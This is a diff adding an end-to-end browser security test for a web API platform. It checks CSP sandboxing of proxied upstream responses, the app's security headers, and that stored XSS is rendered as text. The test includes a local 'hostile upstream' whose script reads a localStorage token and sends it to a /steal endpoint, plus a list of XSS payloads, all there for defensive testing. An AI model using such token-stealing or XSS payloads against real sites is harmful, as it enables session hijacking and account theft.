@@ -1,0 +1,158 @@
+import http from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { ConsoleMessage, Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { hasChromium, startE2E, type E2E } from '../e2e/support/browser.js';
+import { ADMIN_PASSWORD, insertApi } from './support.js';
+
+/**
+ * #16.1 in Chromium: an open call's HTML answer cannot run script or read the platform's storage, the
+ * app's pages run under their CSP without a violation, and stored XSS payloads render as text (a dialog
+ * trap fails the test).
+ */
+
+interface Trap {
+  url: string;
+  stolen: string[];
+  close(): Promise<void>;
+}
+
+/** A hostile upstream: every document tries to read localStorage and send it home (/steal). */
+async function hostileUpstream(): Promise<Trap> {
+  const stolen: string[] = [];
+  let base = '';
+  const payload = () =>
+    `<script>fetch('${base}/steal?t='+encodeURIComponent(localStorage.getItem('token')||'none'));document.title='pwned'</script>`;
+  const server = http.createServer((req, res) => {
+    const url = new URL(req.url ?? '/', 'http://x');
+    if (url.pathname === '/steal') {
+      stolen.push(url.searchParams.get('t') ?? '');
+      res.writeHead(204, { 'access-control-allow-origin': '*' });
+      return res.end();
+    }
+    const types: Record<string, string> = {
+      '/html': 'text/html; charset=utf-8',
+      '/svg': 'image/svg+xml',
+      '/xml': 'application/xhtml+xml',
+      '/plain': 'text/plain',
+      '/none': '',
+    };
+    const type = types[url.pathname] ?? 'text/html';
+    const body =
+      url.pathname === '/svg'
+        ? `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch('${base}/steal?t='+localStorage.getItem('token'))</script></svg>`
+        : `<html><body>${payload()}</body></html>`;
+    res.writeHead(200, type ? { 'content-type': type } : {});
+    res.end(body);
+  });
+  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
+  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+  return { url: base, stolen, close: () => new Promise<void>((r) => server.close(() => r())) };
+}
+
+describe.skipIf(!hasChromium)('the browser: open-call origin, CSP, stored XSS', () => {
+  let e2e: E2E;
+  let page: Page;
+  let trap: Trap;
+  let token = '';
+  const dialogs: string[] = [];
+  const violations: string[] = [];
+
+  beforeAll(async () => {
+    trap = await hostileUpstream();
+    const port = new URL(trap.url).port;
+    e2e = await startE2E({ env: { ADMIN_PASSWORD, UPSTREAM_ALLOW_LIST: `127.0.0.1:${port}` } });
+    page = e2e.page;
+    page.on('dialog', (d) => {
+      dialogs.push(d.message());
+      void d.dismiss();
+    });
+    page.on('console', (m: ConsoleMessage) => {
+      if (/Content Security Policy|Refused to/i.test(m.text())) violations.push(m.text());
+    });
+    const res = await e2e.server.request('POST', '/api/login', { account: 'admin', password: ADMIN_PASSWORD });
+    token = res.body.data.token;
+    await e2e.go('/home');
+    await page.evaluate((t) => localStorage.setItem('token', t), token);
+  });
+  afterAll(async () => {
+    await e2e?.close();
+    await trap?.close();
+  });
+
+  it('an open call answering HTML, SVG, XML, text or nothing cannot run script or read storage', async () => {
+    const urls: string[] = [];
+    for (const kind of ['/html', '/svg', '/xml', '/plain', '/none']) {
+      const id = await insertApi(e2e.server, `${trap.url}${kind}`);
+      const url = `${e2e.server.url}/api/open/api/${id}`;
+      const res = await fetch(url);
+      expect(res.headers.get('content-security-policy')).toBe("sandbox; default-src 'none'; frame-ancestors 'none'");
+      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
+      if (kind !== '/plain' && kind !== '/none') expect(res.headers.get('content-disposition')).toBe('attachment');
+      urls.push(url);
+      // Opened as a page (a link from the tester, or an attacker's link): a download, or an inert document.
+      await page.goto(url, { waitUntil: 'commit' }).catch(() => undefined);
+    }
+    // Embedded in the platform's own page: still sandboxed.
+    await e2e.go('/home');
+    await page.evaluate((srcs) => {
+      for (const src of srcs) {
+        const f = document.createElement('iframe');
+        f.src = src;
+        document.body.appendChild(f);
+      }
+    }, urls);
+    await page.waitForTimeout(1000);
+    expect(trap.stolen).toEqual([]);
+  });
+
+  it('the app is served with its security headers', async () => {
+    const res = await fetch(`${e2e.server.url}/`);
+    const csp = res.headers.get('content-security-policy') ?? '';
+    expect(csp).toContain("frame-ancestors 'none'");
+    expect(csp).toMatch(/script-src 'self' 'sha256-[^']+'/);
+    expect(csp).toContain("object-src 'none'");
+    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
+    expect(res.headers.get('referrer-policy')).toBe('strict-origin-when-cross-origin');
+    const api = await fetch(`${e2e.server.url}/api/apiList`);
+    expect(api.headers.get('x-content-type-options')).toBe('nosniff');
+  });
+
+  it('stored XSS payloads in comments, nicknames and API fields render as text', async () => {
+    const payloads = [
+      '<img src=x onerror=alert(1)>',
+      '<script>alert(2)</script>',
+      '"><svg onload=alert(3)>',
+      "javascript:alert(4)",
+      '<iframe srcdoc="<script>alert(5)</script>">',
+      '{{constructor.constructor("alert(6)")()}}',
+    ];
+    const id = await insertApi(e2e.server, 'builtin:uuid', { name: '<img src=x onerror=alert(7)>' });
+    await e2e.server.ds.query(`UPDATE api SET description = $2, note = $3 WHERE id = $1`, [id, payloads[0], payloads[2]]);
+    for (const [i, p] of payloads.entries()) {
+      const res = await e2e.server.request('POST', '/api/comments', { apiId: id, content: p, nickname: p.slice(0, 20), userId: `anon_xsspayload000${i}` });
+      expect(res.body.code, res.text).toBe(200);
+    }
+    await e2e.go(`/api/Details/${id}`);
+    await page.getByTestId('comment-list').waitFor().catch(() => undefined);
+    await e2e.screenshot('security-xss-detail');
+    await page.getByTestId('comment-content').filter({ hasText: '<script>alert(2)</script>' }).first().waitFor({ timeout: 15_000 });
+    await page.getByText('<img src=x onerror=alert(7)>').first().waitFor({ timeout: 5_000 });
+    await e2e.go('/api-market');
+    await page.waitForTimeout(1000);
+    expect(dialogs).toEqual([]);
+  });
+
+  it('the main pages run under the CSP with no violation', async () => {
+    violations.length = 0;
+    for (const route of ['/home', '/api-market', '/login', '/watch', '/problem', '/dashboard', '/admin/mobile']) {
+      await e2e.go(route);
+      await page.waitForTimeout(700);
+    }
+    const [first] = await e2e.server.ds.query(`SELECT id FROM api WHERE status = 1 ORDER BY id LIMIT 1`);
+    await e2e.go(`/api/Details/${first.id}`);
+    await page.getByTestId('detail-header').waitFor();
+    await page.waitForTimeout(500);
+    expect(violations).toEqual([]);
+  });
+});
